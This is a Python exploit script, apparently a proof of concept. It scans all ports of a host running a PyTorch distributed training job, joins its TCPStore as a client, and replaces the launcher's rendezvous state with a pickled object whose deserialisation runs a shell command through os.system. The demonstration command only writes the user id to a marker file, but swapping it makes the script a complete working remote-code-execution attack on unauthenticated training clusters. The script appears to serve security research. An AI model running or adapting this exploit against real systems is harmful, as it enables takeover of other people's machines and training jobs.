"""What another host does to a training that it reaches: for the interpreter with torch.

``python store_attack.py ADDRESS MARKER STOP FIRST LAST`` knocks at these TCP ports again and again until there is a file STOP, in its first and its
last round at every port. Where one is open it speaks as a client of torch's store, and puts a pickle where torch's launcher keeps its
state, which says ``id -u > MARKER``. It prints the ports that were open.
"""

from __future__ import annotations

import base64
import datetime
import os
import pickle
import socket
import sys
import time

import torch.distributed as dist

STATE = "torch.rendezvous."
"""How the key of the launcher's state begins (torch/distributed/elastic/rendezvous/c10d_rendezvous_backend.py)."""


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id -u >{self.marker}",)


def open_ports(address: str, ports: range) -> list[int]:
    found = []
    for port in ports:
        with socket.socket() as caller:
            caller.settimeout(1)
            if caller.connect_ex((address, port)) == 0:
                found.append(port)
    return found


def attack(address: str, port: int, marker: str) -> None:
    store = dist.TCPStore(address, port, is_master=False, timeout=datetime.timedelta(seconds=5), wait_for_workers=False)
    for key in store.list_keys():
        if key.startswith(STATE) and "/" not in key:
            store.set(key, base64.b64encode(pickle.dumps(Payload(marker))).decode())


def main() -> None:
    address, marker, stop, first, last_port = sys.argv[1:]
    every, likely = range(1, 65536), range(int(first), int(last_port) + 1)
    seen: set[int] = set()
    begun = False
    while True:
        last = os.path.exists(stop)
        for port in open_ports(address, likely if begun and not last else every):
            seen.add(port)
            try:
                attack(address, port, marker)
            except RuntimeError as error:
                print(f"{port}: {str(error).splitlines()[0]}", file=sys.stderr)
        begun = True
        if last:
            break
        time.sleep(0.2)
    print(sorted(seen))


if __name__ == "__main__":
    main()
